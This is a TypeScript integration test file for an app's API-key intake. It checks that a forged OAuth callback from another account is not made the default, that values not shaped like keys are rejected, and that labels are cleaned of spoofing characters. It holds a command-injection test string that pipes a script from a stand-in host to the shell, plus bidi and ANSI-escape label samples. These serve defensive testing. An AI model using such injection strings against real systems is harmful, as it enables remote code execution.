// The one intake for new keys, through the real services: the account check that stops a forged callback from
// quietly becoming the default (issue 11, finding 1), and the shape check every key passes before it is stored
// anywhere (finding 2). Real keychain, real loopback listener, the SDK against the double.
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { ConnectState } from '../../../preload/contract'
import { keyIdOf } from '../../../main/core/keys/key-identity'
import { METADATA_FILE_NAME } from '../../../main/core/keys/metadata-store'
import { startOpenRouterDouble, type OpenRouterDouble } from '../../openrouter-double'
import { startTestServices, type TestServices } from '../../support/core-services'
import { keychainItems, keytar } from '../../support/keychain'
import { navigate } from '../../support/loopback-browser'
import { readAllFiles } from '../../support/temp-dir'

let double: OpenRouterDouble
let app: TestServices

beforeEach(async () => {
  double = await startOpenRouterDouble()
})
afterEach(async () => {
  await app?.dispose()
  await double.close()
})

async function connected(): Promise<Extract<ConnectState, { phase: 'connected' }>> {
  await expect.poll(() => app.services.connect.current.phase, { timeout: 10_000 }).toMatch(/connected|failed/)
  const state = app.services.connect.current
  if (state.phase !== 'connected') throw new Error(`expected connected, got ${JSON.stringify(state)}`)
  return state
}

/** What an attacker who read the consent URL can do: get a code of their own account bound to this flow's challenge, and deliver it to the listener first. */
async function deliverForeignCode(authUrl: string, userId: string): Promise<void> {
  const consent = new URL(authUrl)
  const code = double.issueCode({ codeChallenge: consent.searchParams.get('code_challenge')!, codeChallengeMethod: 'S256', key: { userId } })
  await navigate(`${consent.searchParams.get('callback_url')!}?code=${code}`)
}

describe('a connected key of another account (forged callback)', () => {
  it('is kept, named, and not made the default until the person confirms it', async () => {
    app = await startTestServices({ apiBaseUrl: double.apiBaseUrl })
    const own = await app.services.intake.add(double.createKey({ userId: 'user_owner' }), 'Mine')
    const started = await app.services.connect.start({})
    if (started.phase !== 'awaiting-browser') throw new Error(started.phase)
    await deliverForeignCode(started.authUrl, 'user_attacker')

    const state = await connected()
    expect(state).toMatchObject({ account: 'user_attacker', accountMismatch: true })
    const list = app.services.keys.list()
    const foreign = list.keys.find((key) => key.id === state.keyId)!
    expect(foreign).toMatchObject({ accountPending: true, isDefault: false, userId: 'user_attacker' })
    expect(list.keys.find((key) => key.isDefault)?.id).toBe(own.id)
    // Nothing is lost: the key is in the keychain.
    expect(await keychainItems(app.keychainService)).toHaveLength(2)

    // Confirming clears the flag; the default stays the person's choice.
    const confirmed = await app.services.keys.confirmAccount(state.keyId)
    expect(confirmed.keys.find((key) => key.id === state.keyId)).toMatchObject({ accountPending: false, isDefault: false })
  })

  it('stays flagged across a restart, and choosing it as default confirms it', async () => {
    app = await startTestServices({ apiBaseUrl: double.apiBaseUrl })
    await app.services.intake.add(double.createKey({ userId: 'user_owner' }), 'Mine')
    const started = await app.services.connect.start({})
    if (started.phase !== 'awaiting-browser') throw new Error(started.phase)
    await deliverForeignCode(started.authUrl, 'user_attacker')
    const { keyId } = await connected()
    await app.restart()
    expect(app.services.keys.view(keyId).accountPending).toBe(true)
    const list = await app.services.keys.setDefault(keyId)
    expect(list.keys.find((key) => key.id === keyId)).toMatchObject({ accountPending: false, isDefault: true })
  })

  it('a first key, or one of the same account, connects as before and names its account', async () => {
    double.setConsentMode('auto-approve')
    app = await startTestServices({ apiBaseUrl: double.apiBaseUrl })
    const first = await app.services.connect.start({})
    if (first.phase !== 'awaiting-browser') throw new Error(first.phase)
    await deliverForeignCode(first.authUrl, 'user_owner')
    const one = await connected()
    expect(one).toMatchObject({ account: 'user_owner', accountMismatch: false })
    expect(app.services.keys.view(one.keyId)).toMatchObject({ isDefault: true, accountPending: false })
    app.services.connect.dismiss()

    const second = await app.services.connect.start({})
    if (second.phase !== 'awaiting-browser') throw new Error(second.phase)
    await deliverForeignCode(second.authUrl, 'user_owner')
    const two = await connected()
    expect(two).toMatchObject({ account: 'user_owner', accountMismatch: false })
    expect(app.services.keys.view(two.keyId).accountPending).toBe(false)
  })
})

describe('the shape of a new key', () => {
  const HOSTILE = "sk-or-v1-0123456789abcdef'; curl evil.example | sh #"

  it('refuses an exchanged value that is not shaped like a key, and stores it nowhere', async () => {
    app = await startTestServices({
      apiBaseUrl: double.apiBaseUrl,
      wrapGateway: (gateway) => ({ ...gateway, origin: gateway.origin, exchangeCode: async () => ({ key: HOSTILE, userId: 'user_owner' }) }),
    })
    const started = await app.services.connect.start({})
    if (started.phase !== 'awaiting-browser') throw new Error(started.phase)
    const code = double.issueCode({ codeChallenge: new URL(started.authUrl).searchParams.get('code_challenge')!, codeChallengeMethod: 'S256' })
    const state = await app.services.connect.submitRedirect(code)
    expect(state).toMatchObject({ phase: 'failed', unsavedKey: null, error: { message: expect.stringMatching(/not shaped like an OpenRouter key/) } })
    expect(await keychainItems(app.keychainService)).toEqual([])
    expect(app.services.keys.list().keys).toEqual([])
    for (const file of await readAllFiles(app.dataDir)) expect(file.text).not.toContain('curl evil')
  })

  it('refuses a pasted value that is not shaped like a key before any request', async () => {
    app = await startTestServices({ apiBaseUrl: double.apiBaseUrl })
    const before = double.requests.length
    for (const pasted of ['hello', `${HOSTILE}`, 'sk-or-v1-short', `sk-or-v1-${'a'.repeat(300)}`, 'sk-or-v1-abc def ghi jkl mno pqr']) {
      await expect(app.services.intake.add(pasted, 'Bad')).rejects.toMatchObject({ appError: { code: 'invalid-argument' } })
    }
    expect(double.requests.length).toBe(before)
    expect(await keychainItems(app.keychainService)).toEqual([])
  })

  it('flags a stored key that fails the check (written by an older version) and never deletes it', async () => {
    app = await startTestServices({ apiBaseUrl: double.apiBaseUrl })
    const oddSecret = 'sk-or-v1-written by an older version'
    await keytar.setPassword(app.keychainService, keyIdOf(oddSecret), oddSecret)
    await app.restart()
    const recovered = app.services.keys.list().keys
    expect(recovered).toHaveLength(1)
    expect(recovered[0]).toMatchObject({ id: keyIdOf(oddSecret), malformed: true })
    // Copy as a shell line is refused for it; the item stays.
    await expect(app.services.clipboardGuard.copySecret(await app.services.keys.secretOf(recovered[0]!.id), 'export-sh')).rejects.toMatchObject({
      appError: { message: expect.stringMatching(/not copied as a shell line/) },
    })
    expect(await keychainItems(app.keychainService)).toHaveLength(1)
  })
})

describe('labels', () => {
  it('are cleaned of control and bidi characters on rename and when loaded from an older file', async () => {
    app = await startTestServices({ apiBaseUrl: double.apiBaseUrl })
    const { id } = await app.services.intake.add(double.createKey(), 'K')
    const renamed = await app.services.keys.rename(id, 'Invoice\u202Egpj.exe\u0007\nline')
    expect(renamed.label).toBe('Invoice gpj.exe line')
    await expect(app.services.keys.rename(id, '\u202E\u0000 ')).rejects.toMatchObject({ appError: { code: 'invalid-argument' } })

    // An older version's file with a spoofing label.
    const path = join(app.dataDir, METADATA_FILE_NAME)
    const document = JSON.parse((await readAllFiles(app.dataDir)).find((file) => file.path.endsWith(METADATA_FILE_NAME))!.text)
    document.keys[0].label = 'Work\u2066\u202E laptop\u0085'
    document.keys[0].figures.remoteLabel = 'remote\u200F\u001b[31m'
    await writeFile(path, JSON.stringify(document))
    await app.restart()
    const loaded = app.services.keys.view(id)
    expect(loaded.label).toBe('Work laptop')
    expect(loaded.figures?.remoteLabel).toBe('remote [31m')
  })
})
